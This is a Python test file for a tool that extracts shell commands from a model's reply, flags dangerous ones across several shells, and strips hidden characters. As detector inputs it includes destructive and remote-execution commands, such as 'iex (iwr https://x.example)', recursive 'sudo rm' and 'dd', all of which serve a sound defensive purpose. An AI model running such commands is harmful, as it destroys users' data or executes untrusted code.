"""A model's reply taken apart, and what is dangerous in it marked."""

from __future__ import annotations

from time import process_time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from llmchat.render.clean import clean
from llmchat.shell_command.dialects import BASH, FISH, KNOWN, POWERSHELL, dialect_of
from llmchat.shell_command.reply import MOST_COMMANDS
from llmchat.shell_command.signs import without_hidden
from llmchat.shell_command.suggestion import Suggestion, edited, suggested
from tests.shell_command.replies import HARMLESS, HIDING, REPLIES, WRAPPED, Sample

ODD = "rm -f'\"`$(){}<>|&;\\\n\t#!=~*\u202e\u200b\u00a0\x1b\ufe0f\u0301а–“E0é👋"


@pytest.mark.parametrize("sample", REPLIES, ids=lambda s: repr(s.reply)[:40])
def test_the_commands_are_taken_out_of_the_reply(sample: Sample) -> None:
    assert suggested(sample.reply, BASH).commands == sample.commands


@pytest.mark.parametrize("sample", REPLIES, ids=lambda s: repr(s.reply)[:40])
def test_what_is_dangerous_is_marked_with_its_reason(sample: Sample) -> None:
    reasons = [danger.reason for danger in suggested(sample.reply, BASH).dangers]
    for words in sample.reasons:
        assert any(words in reason for reason in reasons), (words, reasons)


@pytest.mark.parametrize("sample", [*HARMLESS, *WRAPPED], ids=lambda s: repr(s.reply)[:40])
def test_what_is_harmless_is_not_marked(sample: Sample) -> None:
    assert suggested(sample.reply, BASH).dangers == ()


@pytest.mark.parametrize("sample", REPLIES, ids=lambda s: repr(s.reply)[:40])
def test_only_one_command_that_shows_all_of_itself_may_run(sample: Sample) -> None:
    assert suggested(sample.reply, BASH).may_run == sample.runs


def test_every_place_of_several_commands_is_in_the_whole_text() -> None:
    found = suggested("cd /tmp\nsudo rm -r x", BASH)
    assert [found.text[d.start : d.end] for d in found.dangers] == ["sudo", "rm -r"]


@given(st.text(alphabet=ODD, max_size=40))
def test_what_may_run_looks_as_it_is(text: str) -> None:
    """Whatever a model writes: agreed to is only what a terminal shows unchanged."""
    for dialect in (BASH, FISH, POWERSHELL):
        found = edited(text, dialect)
        assert all(0 <= d.start <= d.end <= len(found.text) for d in found.dangers)
        if found.may_run:
            assert clean(found.text) == found.text
            assert "\t" not in found.text
            assert "\u00a0" not in found.text


@given(st.text(alphabet=ODD, max_size=40))
def test_what_an_editor_gets_hides_nothing(text: str) -> None:
    assert not edited(without_hidden(text), BASH).hides


@given(st.text(max_size=60))
def test_any_reply_is_taken_apart(reply: str) -> None:
    for dialect in (BASH, FISH, POWERSHELL):
        assert all(command.strip() for command in suggested(reply, dialect).commands)


@pytest.mark.parametrize("sample", HIDING, ids=lambda s: repr(s.reply)[:40])
def test_without_what_hides_it_may_run(sample: Sample) -> None:
    found = suggested(sample.reply, BASH)
    assert edited(found.for_editor, BASH).may_run


def marked(text: str, shell: str) -> list[str]:
    found: Suggestion = edited(text, dialect_of(shell))
    return [found.text[d.start : d.end] for d in found.dangers]


@pytest.mark.parametrize(
    ("shell", "text", "places"),
    [
        ("fish", "rm -r (ls)", ["rm -r"]),
        ("fish", "for f in *; rm $f; end", ["rm"]),
        ("powershell", "Get-ChildItem | Remove-Item -Recurse", ["Remove-Item -Recurse"]),
        ("powershell", "iex (iwr https://x.example)", ["iex"]),
        ("powershell", "Get-Process | ForEach-Object { Stop-Process $_ }", ["Stop-Process"]),
        ("cmd", "del /s *.tmp", ["del /s"]),
        ("zsh", "sudo ls", ["sudo"]),
        ("zsh", "ls #; rm x", ["rm"]),  # at its prompt a # is an ordinary character
        ("cmd", "dir # & del x", ["del"]),
        ("unheard-of", "rm x", ["rm"]),
    ],
)
def test_each_shell_is_read_in_its_own_way(shell: str, text: str, places: list[str]) -> None:
    assert marked(text, shell) == places


def test_a_block_of_several_lines_is_one_command() -> None:
    assert len(edited("if true\n  ls\nend", FISH).commands) == 1
    assert len(edited("if ($x) {\n  ls\n}", POWERSHELL).commands) == 1
    assert len(edited("case $x in\n a) ls ;;\nesac", KNOWN["dash"]).commands) == 1


def test_commands_within_commands_are_read_to_a_depth() -> None:
    deep = "echo " + "$(echo " * 200 + "x" + ")" * 200
    assert edited(deep, BASH).may_run


@pytest.mark.parametrize(
    "reply",
    [
        "ls " + "x" * 500_000,
        "echo (\n" * 100_000,
        "cat <<E\n" + "x\n" * 100_000,
        "cat <<E\n" + "\n" * 100_000 + "x",
        "```\n" + "1" * 500_000 + "\n```",
        '"$(' * 100_000,
        '{"command": "' + '\\"$(' * 400 + '"}',
    ],
    ids=lambda reply: reply[:12],
)
def test_a_reply_that_would_be_read_for_minutes_has_no_command(reply: str) -> None:
    begun = process_time()
    assert suggested(reply, BASH).commands == ()
    assert process_time() - begun < 20


def test_of_many_commands_some_are_enough_to_run_none() -> None:
    found = suggested("ls -l\n" * 10_000, BASH)
    assert (len(found.commands), found.may_run) == (MOST_COMMANDS, False)


@pytest.mark.parametrize(
    "command",
    [
        "find . " + "-exec find " * 300,
        "find . " + "-ok rm " * 300,
        "echo " + "1" * 3_900,
        "a(){|&" * 600,
        "a(){" + "|&" * 1_900,
        "a(){|&}" + " " * 3_900,
    ],
    ids=lambda command: command[:16],
)
def test_dangers_are_looked_for_in_a_moment(command: str) -> None:
    begun = process_time()
    assert len(suggested(command, BASH).commands) == 1
    assert process_time() - begun < 2


def test_each_program_that_find_starts_is_looked_at() -> None:
    places = marked(
        r"find . -exec grep -q a {} \; -exec sudo rm {} \; -ok find -exec dd of=a +", "bash"
    )
    assert [place for place in places if place.startswith(("sudo", "rm", "dd"))] == [
        "sudo",
        "rm",
        "dd of=a",
    ]


@pytest.mark.parametrize("marks", ["\u0301", "\u200d\u0301", "\ufe0f"])
def test_a_tower_of_marks_is_left_out_for_an_editor(marks: str) -> None:
    begun = process_time()
    assert without_hidden("echo a" + marks * 1_900) == "echo a"
    assert process_time() - begun < 2


@pytest.mark.parametrize(
    "line",
    [
        "a |\n",
        "a &&\n\n",
        "if a\n",
        "(\n",
        "case a in\n",
        " \\\n",
        "a\\\n",
        "echo '\n'",
        "cat <<E\n",
    ],
)
def test_a_command_of_many_lines_is_read_once(line: str) -> None:
    reply = "```\n" + line * (3_900 // len(line)) + "\n```"
    begun = process_time()
    assert suggested(reply, BASH).commands
    assert process_time() - begun < 0.7


def test_a_line_goes_on_where_the_shell_says_so() -> None:
    assert edited("ls \\\n  -l\nls", BASH).commands == ("ls \\\n  -l", "ls")
    assert edited("ls \\\n\nrm a", BASH).commands == ("ls \\\n", "rm a")
    assert edited("Get-Item `\n  a\nls", POWERSHELL).commands == ("Get-Item `\n  a", "ls")
    assert edited("cat <<E\na\nE\nls >\nif a\nfi", BASH).commands == (
        "cat <<E\na\nE",
        "ls >",
        "if a\nfi",
    )
